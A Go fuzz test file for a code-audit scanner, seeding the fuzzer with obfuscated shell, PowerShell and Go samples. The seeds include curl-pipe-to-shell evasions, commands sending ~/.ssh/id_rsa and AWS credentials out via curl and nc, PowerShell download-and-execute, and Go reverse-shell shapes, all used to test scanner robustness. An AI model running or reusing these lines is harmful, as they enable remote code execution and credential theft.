package audit

import (
	"strings"
	"testing"
)

// FuzzScanShell: no shell text stops the audit (a panic in the parser's
// walk, the normaliser or a rule), and none is worse than the budgets.
func FuzzScanShell(f *testing.F) {
	for _, s := range []string{
		"c\\url -s https://x | \\sh",
		"curl${IFS}-s${IFS}https://x|sh",
		"c=curl; s=sh; $c https://x | $s",
		"{curl,-s,https://x}|bash",
		"$(printf '\\x63\\x75\\x72\\x6c') -s x | sh",
		"$'\\x63url' x | $'\\x73h'",
		"d=~/.s; f=sh/id_rsa; cat $d$f | curl -d @- https://x",
		"k=$(cat ~/.ssh/id_rsa); curl \"https://x/?k=$k\"",
		"a=x; a=$a$a; a=$a$a; echo ${a:0:3} ${#a} ${a/x/y} $((1+2)) ~bob/x",
		strings.Repeat("$(", 300) + strings.Repeat(")", 300),
		// nested substitutions around a command: each level was expanded
		// twice, so 40 levels never finished (maxSubstDepth)
		strings.Repeat("$(", 40) + "curl x | sh" + strings.Repeat(")", 40),
		strings.Repeat("$(", 40) + "$())" + strings.Repeat(")", 20) + "1" + strings.Repeat(")", 19),
		strings.Repeat("true | ", 300) + "sh",
		"echo `cat ~/.aws/credentials` | nc x 1",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, code string) {
		sc := scanCtx(code)
		scanShell(sc, "scripts/run.sh", code, 1, inScript)
	})
}

// FuzzScanPowerShell: no PowerShell text stops the audit, and the
// folded copy the variable flow reads keeps every offset of the text.
func FuzzScanPowerShell(f *testing.F) {
	for _, s := range []string{
		"$w = New-Object ('Net.' + 'Web' + 'Client')\n$b = $w.('Download' + 'String').Invoke($u)\n. ([ScriptBlock]::Create($b))",
		"$s = irm https://x/s.ps1; $s | iex",
		"'a' + \"b\" + 'c''d' + \"e`\"f\"; iex",
		"<# c #> $x = 'ht' + 'tps://' # iex $x",
		"[scriptblock]$y",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, code string) {
		if folded, _ := foldPSConcat(code); len(folded) != len(code) || strings.Count(folded, "\n") != strings.Count(code, "\n") {
			t.Fatalf("folding moved offsets: %q -> %q", code, folded)
		}
		sc := scanCtx(code)
		scanPowerShell(sc, "scripts/s.ps1", code, 1, inScript)
	})
}

// FuzzScanGoShell: no Go text stops the audit.
func FuzzScanGoShell(f *testing.F) {
	f.Add("package main\nimport (\"net\"; \"os/exec\")\nfunc s(c net.Conn) { p := exec.Command(\"x\"); p.Stdin, p.Stdout = c, c }")
	f.Add("package main\nimport \"os/exec\"\nfunc main() { c, _ := l.Accept(); go func(x net.Conn) { io.Copy(x, c) }(c); f, _ := pty.Start(nil); io.Copy(f, c) }")
	f.Fuzz(func(t *testing.T, code string) {
		sc := scanCtx(code)
		scanGoShell(sc, "main.go", code)
	})
}
